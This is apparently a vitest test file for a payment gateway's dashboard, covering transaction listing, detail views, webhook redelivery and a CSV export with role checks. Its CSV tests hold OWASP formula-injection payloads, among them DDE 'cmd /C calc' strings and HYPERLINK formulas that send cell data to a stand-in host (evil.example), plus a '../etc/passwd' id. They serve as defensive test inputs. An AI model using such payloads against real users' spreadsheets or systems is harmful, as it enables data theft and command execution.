// The dashboard's transaction operations on the gateway (issue 13): the list, one transaction with its
// receipts and events, the streamed CSV export, and redelivery, each for a signed-in user's merchant
// and mode, each refused to a role without the permission.
import { parse } from "csv-parse/sync";
import { afterEach, describe, expect, it } from "vitest";
import type { DashboardActor } from "../../src/core/access/roles.ts";
import { PaygateError } from "../../src/core/errors.ts";
import { systemClock } from "../../src/core/gateway.ts";
import type { Stores } from "../../src/core/stores/index.ts";
import type { TransactionListQuery } from "../../src/core/stores/transactions.ts";
import { csvCell, transactionsCsv } from "../../src/core/transactions/export.ts";
import { parseTransactionFilters } from "../../src/core/transactions/list.ts";
import { HTTP_STATUS } from "../../src/edge/status.ts";
import { EXPORT_CSV_HEADER } from "../support/csv-export.ts";
import { freshActor } from "../support/dashboard.ts";
import { gatewayAndReceiverForFile, type TestGateway } from "../support/gateway.ts";
import type { WebhookReceiver } from "../support/webhook-receiver.ts";

let t: TestGateway;
let receiver: WebhookReceiver;
gatewayAndReceiverForFile((started) => {
  ({ t, receiver } = started);
});
afterEach(() => {
  receiver.answer = () => ({ status: 200, body: "ok" });
});

type Keys = Awaited<ReturnType<TestGateway["merchant"]>>;

const actor = (keys: Keys, role: DashboardActor["role"] = "owner"): DashboardActor => freshActor(keys.id, role, systemClock);

interface Init {
  email?: string;
  name?: string;
  description?: string;
  currency?: string;
  amount?: string;
}

const init = async (publicKey: string, body: Init = {}) => {
  const res = await t.post(
    "/v1/transaction",
    {
      customer: { email: body.email ?? "ada@example.com", ...(body.name ? { name: body.name } : {}) },
      currency: body.currency ?? "USD",
      amount: body.amount ?? "10",
      ...(body.description ? { description: body.description } : {}),
    },
    { authorization: `Bearer ${publicKey}` },
  );
  expect(res.status).toBe(201);
  return res.body.data as { id: string; reference: string };
};

const pay = async (keys: Keys, id: string, currencyId = "4") => {
  const auth = { authorization: `Bearer ${keys.testSecretKey}` };
  expect((await t.post(`/v1/transaction/${id}/pay`, { currency_id: currencyId }, auth)).status).toBe(200);
  const paid = await t.post(`/v1/test_helpers/transaction/${id}/payment`, {}, auth);
  expect(paid.body.data.status).toBe("SUCCESSFUL");
};

/** The PaygateError a call rejects with, and the HTTP status every adapter gives it. */
async function refusal(call: Promise<unknown>) {
  const error = await call.then(
    () => {
      throw new Error("expected a refusal");
    },
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(PaygateError);
  const e = error as PaygateError;
  return { status: HTTP_STATUS[e.code], code: e.code, reason: e.reason, message: e.message };
}

const csvOf = async (rows: AsyncIterable<string>) => {
  let text = "";
  for await (const row of rows) text += row;
  return { text, records: parse(text) as string[][] };
};

describe("the list", () => {
  it("shows the user's merchant's transactions of the chosen mode, with the REST list's filters, cursor and refusals", async () => {
    const keys = await t.merchant({ name: "Dash list", kyb: "VERIFIED" });
    const other = await t.merchant({ name: "Dash list other" });
    const a = await init(keys.testPublicKey, { email: "Ada@Example.com" });
    const b = await init(keys.testPublicKey, { email: "bo@example.com" });
    const c = await init(keys.testPublicKey, { email: "cy@example.com" });
    const live = await init(keys.livePublicKey);
    await init(other.testPublicKey);
    const viewer = actor(keys, "viewer");

    const page = await t.gateway.payments.dashboardTransactions(t.gateway.access.dashboard(viewer, false), { limit: "2" });
    expect(page.transactions.map((x) => x.id)).toEqual([c.id, b.id]);
    expect(page.hasMore).toBe(true);
    const next = await t.gateway.payments.dashboardTransactions(t.gateway.access.dashboard(viewer, false), { limit: "2", starting_after: b.id });
    expect(next.transactions.map((x) => x.id)).toEqual([a.id]);
    expect(next.hasMore).toBe(false);
    expect((await t.gateway.payments.dashboardTransactions(t.gateway.access.dashboard(viewer, true), {})).transactions.map((x) => x.id)).toEqual([
      live.id,
    ]);
    expect(
      (await t.gateway.payments.dashboardTransactions(t.gateway.access.dashboard(viewer, false), { q: "ada@EXAMPLE.com" })).transactions.map(
        (x) => x.id,
      ),
    ).toEqual([a.id]);
    expect(
      (await t.gateway.payments.dashboardTransactions(t.gateway.access.dashboard(viewer, false), { q: b.reference })).transactions.map((x) => x.id),
    ).toEqual([b.id]);
    expect(
      (await t.gateway.payments.dashboardTransactions(t.gateway.access.dashboard(viewer, false), { status: "initiated" })).transactions,
    ).toHaveLength(3);

    expect(await refusal(t.gateway.payments.dashboardTransactions(t.gateway.access.dashboard(viewer, false), { status: "PAID" }))).toEqual({
      status: 400,
      code: "validation_error",
      reason: "invalid_list_parameter",
      message: "Invalid query parameter: status must be one of INITIATED, PENDING, SUCCESSFUL, ABANDONED",
    });
    // Another mode's transaction is no cursor here.
    expect(
      await refusal(t.gateway.payments.dashboardTransactions(t.gateway.access.dashboard(viewer, false), { starting_after: live.id })),
    ).toMatchObject({
      status: 400,
      reason: "unknown_cursor",
    });
  });
});

describe("one transaction", () => {
  it("shows its fields, quote, receipts and events with their attempts, oldest first", async () => {
    const keys = await t.merchant({ name: "Dash detail", testWebhookUrl: receiver.url });
    const { id } = await init(keys.testPublicKey);
    await pay(keys, id);
    receiver.answer = () => ({ status: 500, body: "receiver down" });
    await t.dispatcher({ retryScheduleMs: [] }).drain();

    const detail = await t.gateway.payments.dashboardTransaction(t.gateway.access.dashboard(actor(keys, "viewer"), false), id.toUpperCase());
    expect(detail.transaction).toMatchObject({ id, status: "SUCCESSFUL", merchantId: keys.id });
    expect(detail.view.paymentCurrency?.slug).toBe("BTC");
    expect(detail.view.quote).toMatchObject({ source: expect.any(String), rate: expect.stringMatching(/^\d+(\.\d+)?$/) });
    expect(detail.receipts).toHaveLength(1);
    expect(detail.receipts[0]).toMatchObject({ status: "CONFIRMED", source: "test_helper" });
    expect(detail.receipts[0]?.amount.toFixed()).toBe(detail.transaction.paymentAmount?.toFixed());
    expect(detail.events.map((e) => e.type)).toEqual(["payment.initiated", "payment.pending", "payment.received"]);
    // Events of one transaction are sent in order: the first failed, the others wait behind it.
    const first = detail.events[0]!;
    expect(first.state).toBe("FAILED");
    expect(first.attempts).toHaveLength(1);
    // The receiver is on 127.0.0.1: a private address's answer is never kept.
    expect(first.attempts[0]).toMatchObject({ url: receiver.url, statusCode: 500, responseBody: null, succeeded: false });
    expect(first.attempts[0]?.latencyMs).toBeGreaterThanOrEqual(0);
  });

  it("is not found for another merchant's or mode's transaction, or an id of another shape", async () => {
    const keys = await t.merchant({ name: "Dash detail mine", kyb: "VERIFIED" });
    const other = await t.merchant({ name: "Dash detail theirs" });
    const theirs = await init(other.testPublicKey);
    const live = await init(keys.livePublicKey);
    for (const [isLive, id] of [
      [false, theirs.id],
      [false, live.id],
      [true, theirs.id],
      [false, "../etc/passwd"],
    ] as const) {
      expect(await refusal(t.gateway.payments.dashboardTransaction(t.gateway.access.dashboard(actor(keys), isLive), id))).toEqual({
        status: 404,
        code: "not_found",
        reason: "transaction_not_found",
        message: `No transaction with id '${id}'`,
      });
    }
  });
});

describe("redelivery", () => {
  it("sends a failed event again for an owner or developer, and refuses a viewer with 403 before anything is sent", async () => {
    const keys = await t.merchant({ name: "Dash redeliver", testWebhookUrl: receiver.url });
    const { id } = await init(keys.testPublicKey);
    receiver.answer = () => ({ status: 500 });
    await t.dispatcher({ retryScheduleMs: [] }).drain();
    const [event] = (await t.gateway.payments.dashboardTransaction(t.gateway.access.dashboard(actor(keys), false), id)).events;
    expect(event?.state).toBe("FAILED");
    const sent = receiver.received.length;

    expect(await refusal(t.gateway.payments.redeliverEvent(t.gateway.access.dashboard(actor(keys, "viewer"), false), event!.id))).toEqual({
      status: 403,
      code: "forbidden",
      reason: "role_forbidden",
      message: "Your role (viewer) cannot manage webhooks; ask an owner of this merchant for the owner or developer role",
    });
    expect(receiver.received).toHaveLength(sent);

    receiver.answer = () => ({ status: 200, body: "thanks" });
    const report = await t.gateway.payments.redeliverEvent(t.gateway.access.dashboard(actor(keys, "developer"), false), event!.id);
    expect(report).toMatchObject({ eventId: event!.id, outcome: { state: "DELIVERED" }, attempt: { statusCode: 200, trigger: "manual" } });
    expect(receiver.received).toHaveLength(sent + 1);
    const after = (await t.gateway.payments.dashboardTransaction(t.gateway.access.dashboard(actor(keys), false), id)).events[0]!;
    expect(after.state).toBe("DELIVERED");
    expect(after.attempts.map((a) => [a.statusCode, a.trigger])).toEqual([
      [500, "schedule"],
      [200, "manual"],
    ]);
  });

  it("is not found for another merchant's or mode's event, or an unknown id", async () => {
    const keys = await t.merchant({ name: "Dash redeliver mine", kyb: "VERIFIED" });
    const other = await t.merchant({ name: "Dash redeliver theirs" });
    const theirs = await init(other.testPublicKey);
    const live = await init(keys.livePublicKey);
    const eventOf = async (transactionId: string) => (await t.db.webhookEvent.findFirstOrThrow({ where: { transactionId } })).id;
    const sent = receiver.received.length;
    for (const [isLive, id] of [
      [false, await eventOf(theirs.id)],
      [false, await eventOf(live.id)],
      [false, "evt_doesnotexist"],
      [false, "not an event"],
    ] as const) {
      expect(await refusal(t.gateway.payments.redeliverEvent(t.gateway.access.dashboard(actor(keys), isLive), id))).toEqual({
        status: 404,
        code: "not_found",
        reason: "event_not_found",
        message: `No event with id '${id}'`,
      });
    }
    expect(receiver.received).toHaveLength(sent);
    // Their merchant has no URL: nothing was queued, and the refusals queued or sent nothing either.
    const theirEvent = await eventOf(theirs.id);
    expect(await t.db.webhookDelivery.count({ where: { eventId: theirEvent } })).toBe(0);
    expect(await t.db.webhookDeliveryAttempt.count({ where: { eventId: theirEvent } })).toBe(0);
  });
});

describe("the CSV export", () => {
  it("exports the filtered set: a header, a row per transaction newest first, quoted, formulas defused", async () => {
    const keys = await t.merchant({ name: "Dash csv", kyb: "VERIFIED" });
    const plain = await init(keys.testPublicKey, { email: "plain@example.com", amount: "12.50" });
    const tricky = await init(keys.testPublicKey, {
      email: "tricky@example.com",
      name: '=HYPERLINK("http://evil.example","click")',
      description: 'Order "42", two lines\r\nsecond line',
      currency: "NGN",
      amount: "5000",
    });
    const paid = await init(keys.testPublicKey, { email: "paid@example.com", name: "-1+2", description: "@SUM(A1)" });
    await pay(keys, paid.id, "4");
    await init(keys.livePublicKey, { email: "live@example.com" });
    await init(keys.testPublicKey, { email: "other@example.org" });

    const all = await csvOf(
      await t.gateway.payments.exportTransactionsCsv(t.gateway.access.dashboard(actor(keys, "viewer"), false), { q: "paid@example.com" }),
    );
    expect(all.records).toHaveLength(2);
    const [header, row] = all.records as [string[], string[]];
    expect(header).toEqual(EXPORT_CSV_HEADER);
    const cell = (name: string) => row[header.indexOf(name)];
    const stored = await t.db.transaction.findUniqueOrThrow({ where: { id: paid.id } });
    expect(cell("id")).toBe(paid.id);
    expect(cell("reference")).toBe(paid.reference);
    expect(cell("created_at")).toBe(stored.createdAt.toISOString());
    expect(cell("status")).toBe("SUCCESSFUL");
    expect(cell("mode")).toBe("test");
    expect(cell("amount")).toBe("10");
    expect(cell("currency")).toBe("USD");
    expect(cell("payment_currency")).toBe("BTC");
    expect(cell("payment_amount")).toBe(stored.paymentAmount?.toFixed());
    expect(cell("payment_amount")).toMatch(/^\d+\.\d+$/); // never 1e-7
    expect(cell("amount_paid")).toBe(stored.amountPaid?.toFixed());
    expect(cell("payment_address")).toBe(stored.paymentAddress);
    expect(cell("quote_rate")).toBe(stored.quoteRate?.toFixed());
    // Cells a spreadsheet would run as formulas are prefixed with a quote.
    expect(cell("customer_name")).toBe("'-1+2");
    expect(cell("description")).toBe("'@SUM(A1)");

    const usd = await csvOf(
      await t.gateway.payments.exportTransactionsCsv(t.gateway.access.dashboard(actor(keys), false), { currency: "usd", q: "plain@example.com" }),
    );
    expect(usd.records.slice(1).map((r) => r[0])).toEqual([plain.id]);
    expect(usd.records[1]?.[EXPORT_CSV_HEADER.indexOf("amount")]).toBe("12.5");

    const ngn = await csvOf(await t.gateway.payments.exportTransactionsCsv(t.gateway.access.dashboard(actor(keys), false), { currency: "NGN" }));
    expect(ngn.records.slice(1).map((r) => r[0])).toEqual([tricky.id]);
    const trickyRow = ngn.records[1]!;
    expect(trickyRow[EXPORT_CSV_HEADER.indexOf("customer_name")]).toBe(`'=HYPERLINK("http://evil.example","click")`);
    expect(trickyRow[EXPORT_CSV_HEADER.indexOf("description")]).toBe('Order "42", two lines\r\nsecond line');
    expect(trickyRow[EXPORT_CSV_HEADER.indexOf("payment_amount")]).toBe("");
    expect(ngn.text.endsWith("\r\n")).toBe(true);

    // No filter: the mode's whole set, newest first.
    const everything = await csvOf(await t.gateway.payments.exportTransactionsCsv(t.gateway.access.dashboard(actor(keys), false), {}));
    expect(everything.records).toHaveLength(5);
    const live = await csvOf(await t.gateway.payments.exportTransactionsCsv(t.gateway.access.dashboard(actor(keys), true), {}));
    expect(live.records.slice(1).map((r) => r[EXPORT_CSV_HEADER.indexOf("customer_email")])).toEqual(["live@example.com"]);
    expect(live.records[1]?.[EXPORT_CSV_HEADER.indexOf("mode")]).toBe("live");
  });

  it("refuses a bad filter or a page parameter with 400 before any row is read, and shows another merchant nothing", async () => {
    const keys = await t.merchant({ name: "Dash csv refusals" });
    const other = await t.merchant({ name: "Dash csv stranger" });
    await init(keys.testPublicKey);
    expect(
      await refusal(
        t.gateway.payments.exportTransactionsCsv(t.gateway.access.dashboard(actor(keys), false), { "created[gte]": "yesterday", limit: "5" }),
      ),
    ).toEqual({
      status: 400,
      code: "validation_error",
      reason: "invalid_list_parameter",
      message:
        "Invalid query parameters: limit is not a parameter of this list; created[gte] must be an ISO 8601 date-time with a time zone, e.g. 2026-11-01T00:00:00Z",
    });
    const theirs = await csvOf(await t.gateway.payments.exportTransactionsCsv(t.gateway.access.dashboard(actor(other, "viewer"), false), {}));
    expect(theirs.records).toEqual([EXPORT_CSV_HEADER]);
  });

  it("reads the database in keyset pages, in order and without duplicates, also across rows made in the same millisecond", async () => {
    const keys = await t.merchant({ name: "Dash csv pages" });
    const made: string[] = [];
    for (let i = 0; i < 8; i++) made.push((await init(keys.testPublicKey, { email: `p${i}@example.com` })).id);
    // Three share an instant: the cursor must order them by id.
    const at = new Date("2026-11-01T10:00:00.000Z");
    for (const id of made.slice(2, 5)) await t.db.transaction.update({ where: { id }, data: { createdAt: at } });
    const expected = await t.db.transaction.findMany({
      where: { merchantId: keys.id },
      orderBy: [{ createdAt: "desc" }, { id: "desc" }],
      select: { id: true },
    });

    // The store as the export sees it, recording each query.
    const queries: TransactionListQuery[] = [];
    const stores: Stores = {
      ...t.stores,
      transactions: {
        ...t.stores.transactions,
        list: (q) => {
          queries.push(q);
          return t.stores.transactions.list(q);
        },
      },
    };
    const filters = parseTransactionFilters({ merchantId: keys.id, isLive: false }, {});
    const { records } = await csvOf(transactionsCsv(stores, filters, 3));
    const ids = records.slice(1).map((r) => r[0]);
    expect(ids).toEqual(expected.map((e) => e.id));
    expect(new Set(ids).size).toBe(8);
    // 8 rows in pages of 3: three queries, each for 3 rows after the last one's (created_at, id).
    expect(queries.map((q) => q.limit)).toEqual([3, 3, 3]);
    expect(queries[0]?.after).toBeNull();
    expect(queries[1]?.after?.id).toBe(expected[2]?.id);
    expect(queries[2]?.after?.id).toBe(expected[5]?.id);
  });

  it("defuses every OWASP CSV-injection form in a typed cell, and leaves the gateway's own values as they are", async () => {
    const keys = await t.merchant({ name: "Dash csv injection" });
    const typed = await init(keys.testPublicKey, {
      email: "inject@example.com",
      name: "Ann|@SUM(1)",
      description: 'Refund;=HYPERLINK("http://evil.example?leak="&A1,"Error: click")',
    });
    const { records } = await csvOf(await t.gateway.payments.exportTransactionsCsv(t.gateway.access.dashboard(actor(keys), false), {}));
    const row = records[1] as string[];
    const cell = (name: string) => row[EXPORT_CSV_HEADER.indexOf(name)];
    expect(cell("customer_name")).toBe("Ann|'@SUM(1)");
    expect(cell("description")).toBe(`Refund;'=HYPERLINK("http://evil.example?leak="&A1,"Error: click")`);
    const stored = await t.db.transaction.findUniqueOrThrow({ where: { id: typed.id } });
    expect([cell("id"), cell("reference"), cell("amount"), cell("created_at")]).toEqual([
      stored.id,
      stored.reference,
      stored.initializedAmount.toFixed(),
      stored.createdAt.toISOString(),
    ]);
  });

  it("leaves no cell, nor any part a spreadsheet could split off at , ; | tab CR or LF, starting with a formula character", () => {
    const payloads = [
      // A formula character first (OWASP's list), with its full-width forms.
      "=1+1",
      "+1+1",
      "-1+1",
      "@SUM(1+1)",
      "\t=1+1",
      "\r=1+1",
      "\n=1+1",
      "\uFF1D1+1",
      "\uFF0B1",
      "\uFF0D1",
      "\uFF20SUM(1)",
      // White space, control or format characters before it.
      " =1+1",
      "\u00a0=1+1",
      "\u200b=1+1",
      "\ufeff@SUM(1)",
      " \t\u3000-2+3",
      "\n\n+1",
      // After a separator, where a spreadsheet splitting at it starts a cell.
      'a;=HYPERLINK("http://evil.example","x")',
      "a,=1+1",
      "a|=1+1",
      "a\t=1+1",
      "a\r\n=1+1",
      "a; =1+1",
      "a;\u00a0@SUM(1)",
      "a;\uFF1D1+1",
      "x,y;z|+1",
      // DDE and exfiltration forms.
      "=cmd|' /C calc'!A0",
      "@SUM(1+9)*cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: please click for further information")',
      'DDE("cmd";"/C calc";"!A0")A0;=cmd|\'/C calc\'!A0',
    ];
    const blank = /^[\s\p{Cc}\p{Cf}]*/u;
    const formula = /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u;
    const startsFormula = (text: string) => formula.test(text.replace(blank, ""));
    for (const payload of payloads) {
      const written = csvCell(payload);
      const read = (parse(`${written}\r\n`) as string[][])[0]?.[0] ?? "";
      expect(startsFormula(read), JSON.stringify({ payload, read })).toBe(false);
      for (const separator of [",", ";", "|", "\t", "\r", "\n"]) {
        for (const part of read.split(separator)) expect(startsFormula(part), JSON.stringify({ payload, separator, part })).toBe(false);
      }
      // A spreadsheet that splits the line at ; or | without reading quotes.
      for (const separator of [";", "|"]) {
        for (const part of written.split(separator)) {
          expect(startsFormula(part.replace(/^"/, "")), JSON.stringify({ payload, separator, part })).toBe(false);
        }
      }
    }
    expect(csvCell("\n=1")).toBe(`"'\n'=1"`);
    expect(csvCell(" =1")).toBe("' =1");
    expect(csvCell("a;=1")).toBe(`"a;'=1"`);
    expect(csvCell("a,=1")).toBe(`"a,'=1"`);
    expect(csvCell("a|=1")).toBe(`"a|'=1"`);
    expect(csvCell("\uFF1D1")).toBe("'\uFF1D1");
    expect(csvCell("=cmd|' /C calc'!A0")).toBe(`"'=cmd|' /C calc'!A0"`);
  });

  it("changes no plain value: ids, amounts, times, addresses, e-mails and text without formulas", () => {
    for (const plain of [
      "txn_0123456789abcdefghij",
      "12.5",
      "0.00012345",
      "5000",
      "2026-11-24T06:00:00.000Z",
      "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
      "0x52908400098527886E0F7030069857D2E4169EE7",
      "ada+shop@example.com",
      "a - b",
      "a=b",
      "Order #5",
      "O'Brien",
    ]) {
      expect(csvCell(plain)).toBe(plain);
    }
    expect(csvCell("a, b")).toBe('"a, b"');
    expect(csvCell("lunch; dinner")).toBe('"lunch; dinner"');
  });

  it("quotes and guards single cells as RFC 4180 and OWASP say", () => {
    expect(csvCell("plain")).toBe("plain");
    expect(csvCell("a,b")).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell("line\nbreak")).toBe('"line\nbreak"');
    expect(csvCell("=1+1")).toBe("'=1+1");
    expect(csvCell("+1")).toBe("'+1");
    expect(csvCell("-1")).toBe("'-1");
    expect(csvCell("@x")).toBe("'@x");
    expect(csvCell("\tx")).toBe("'\tx");
    expect(csvCell("=a,b")).toBe(`"'=a,b"`);
    expect(csvCell("a=b")).toBe("a=b");
    expect(csvCell("")).toBe("");
  });
});
